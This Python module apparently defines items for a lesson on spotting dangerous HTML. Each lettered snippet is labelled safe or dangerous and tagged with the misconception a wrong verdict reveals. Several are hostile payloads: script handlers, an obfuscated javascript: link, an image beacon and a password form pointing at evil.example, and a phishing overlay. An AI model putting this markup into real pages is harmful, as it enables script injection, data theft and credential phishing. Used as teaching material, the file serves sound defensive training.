"""The letters of `dangerous`, and the mistake that a wrong verdict on each shows."""

from helpers.lessons.common.letters import Letter, make_cases

__all__ = ["CASES", "LETTERS"]

LETTERS = (
    Letter("A", "<p>31 °C and <strong>sunny</strong></p>", False, "fears-markup"),
    Letter("B", '<img src="x" onerror="steal()">', True, "fears-script-elements-only"),
    Letter("C", '<a href="javascript:steal()">Details</a>', True, "trusts-links"),
    Letter("D", "<code>&lt;script&gt;steal()&lt;/script&gt;</code>", False, "fears-escaped-text"),
    Letter(
        "E", '<img src="https://evil.example/dot.png?said=my+salary+is">', True, "trusts-pictures"
    ),
    Letter(
        "F",
        '<a href="https://example.org/" rel="noopener noreferrer">Details</a>',
        False,
        "fears-links",
    ),
    Letter("G", '<a href="java&#115;cript:steal()">Details</a>', True, "looks-for-words"),
    Letter(
        "H",
        '<form action="https://evil.example/"><input name="password"></form>',
        True,
        "trusts-forms",
    ),
    Letter(
        "I",
        '<b style="position:fixed;inset:0;background:white">Log in again</b>',
        True,
        "trusts-styles",
    ),
)
CASES = make_cases("DANGEROUS", "piece", LETTERS)
